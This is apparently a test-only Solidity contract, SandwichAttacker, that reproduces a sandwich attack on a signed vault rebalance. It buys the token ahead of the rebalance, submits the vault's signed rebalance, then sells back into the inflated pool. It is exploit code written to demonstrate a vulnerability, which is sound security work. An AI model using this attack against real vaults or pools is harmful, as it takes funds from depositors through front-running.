// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

interface ISandwichToken {
    function approve(address spender, uint256 amount) external returns (bool);
    function balanceOf(address account) external view returns (uint256);
}

interface ISandwichPool {
    function swap(address tokenIn, uint256 amountIn, uint256 minAmountOut, address to) external returns (uint256);
}

interface ISandwichVault {
    struct Allocation {
        address vault;
        uint256 nonce;
        uint256 validUntil;
        uint256[] weightsBps;
        uint256[] referencePricesX18;
        bytes32 inputsHash;
    }

    function rebalance(Allocation calldata a, bytes calldata signature) external;
}

/// @title The sandwich of issue 16 in one transaction: buy the sleeve token the vault is about to buy, submit the
///        vault's signed rebalance, sell the token back into the pool the vault just pushed up.
/// @notice Test-only: compiled from src/test/solidity, never deployed by the demo.
contract SandwichAttacker {
    function attack(
        address vault,
        address pool,
        address stable,
        address token,
        uint256 stableIn,
        ISandwichVault.Allocation calldata a,
        bytes calldata signature
    ) external returns (uint256 stableBack) {
        ISandwichToken(stable).approve(pool, type(uint256).max);
        ISandwichToken(token).approve(pool, type(uint256).max);
        uint256 bought = ISandwichPool(pool).swap(stable, stableIn, 0, address(this));
        ISandwichVault(vault).rebalance(a, signature);
        stableBack = ISandwichPool(pool).swap(token, bought, 0, address(this));
    }
}
